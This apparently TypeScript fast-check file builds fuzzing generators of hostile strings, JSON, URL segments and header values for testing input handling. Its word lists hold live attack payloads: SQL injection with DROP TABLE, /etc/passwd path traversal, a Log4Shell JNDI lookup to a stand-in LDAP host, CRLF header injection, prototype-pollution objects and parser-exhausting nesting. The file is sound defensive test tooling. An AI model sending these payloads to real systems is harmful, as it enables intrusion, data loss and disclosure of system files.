/** What a hostile client, agent or operator may put where a value is expected. */
import fc from 'fast-check';

const words = [
  '',
  ' ',
  '\u0000',
  'a\r\nx-injected: 1',
  '\ud800',
  'a\udfff',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "' OR 1=1 --",
  '"; DROP TABLE executions; --',
  '${jndi:ldap://x.test/a}',
  '{"level":60,"msg":"forged"}',
  '\u202e\u2066txt',
  '💩'.repeat(60),
  'x'.repeat(251),
  'x'.repeat(5_000),
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '9007199254740993',
];

export const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...words), weight: 3 },
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Any JSON value: wrong types, odd keys, odd strings and numbers. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: 'small' },
    hostileString,
    fc.constantFrom(null, true, false, 0, -0, -1, 1.5, 2 ** 53, 1e308, -1e308, Number.MIN_VALUE),
    fc.integer(),
    fc.array(tie('value'), { maxLength: 5 }),
    tie('object'),
  ),
  object: fc
    .array(fc.tuple(hostileString, tie('value')), { maxLength: 5 })
    // Not by assignment: `__proto__` shall be a key like any other, as it is in JSON.
    .map((entries) => Object.fromEntries(entries)),
})).value;

/** JSON that `JSON.stringify` would never write, and text that is none. */
export const hostileJson = fc.oneof(
  hostileValue.map((value) => JSON.stringify(value)),
  fc.tuple(hostileValue, fc.nat({ max: 40 })).map(([value, cut]) => JSON.stringify(value).slice(cut)),
  fc.integer({ min: 1, max: 30_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.integer({ min: 1, max: 30_000 }).map((depth) => '{"a":'.repeat(depth)),
  fc.constantFrom(
    '1e999',
    '-1e999',
    '{"blueprint":"nope","blueprint":"none","input":{}}',
    '{"__proto__":{"blueprint":"script","input":{"steps":[]}}}',
    '{"constructor":{"prototype":{"isOps":true}}}',
    '\ufeff{}',
    '{"a":"\\ud800"}',
    '"\\u0000"',
    '{} {}',
    '// {}',
  ),
);

/** A text that was valid, after a few of its characters were changed, cut out or doubled. */
export function mutated(text: string): fc.Arbitrary<string> {
  const change = fc.record({
    at: fc.nat({ max: text.length }),
    remove: fc.nat({ max: 3 }),
    insert: fc.oneof(fc.constantFrom('', '"', '}', ']', '{', ',', ':', '\u0000', '\\'), hostileString),
  });
  return fc
    .array(change, { minLength: 1, maxLength: 3 })
    .map((changes) =>
      changes.reduce((whole, { at, remove, insert }) => whole.slice(0, at) + insert + whole.slice(at + remove), text),
    );
}

/** In a URL; encoded, and at times as it is. */
export const hostileSegment = fc.oneof(
  hostileString.map((text) => encodeURIComponent(text.toWellFormed())),
  fc.stringMatching(/^[!$&'()*+,.:;=@_~A-Za-z0-9-]{1,60}$/),
  fc.constantFrom('%', '%ff', '%c0%af', '%e2%82', '%00', '..', '.', '%2e%2e', 'x'.repeat(4_000)),
);

/** As header values go: bytes from blank to ÿ. */
export const hostileHeader = fc.oneof(
  fc.stringMatching(/^[ -~]{0,60}$/),
  fc.stringMatching(/^[\x80-\xff]{1,30}$/),
  hostileString.map((text) => encodeURIComponent(text.toWellFormed())),
);
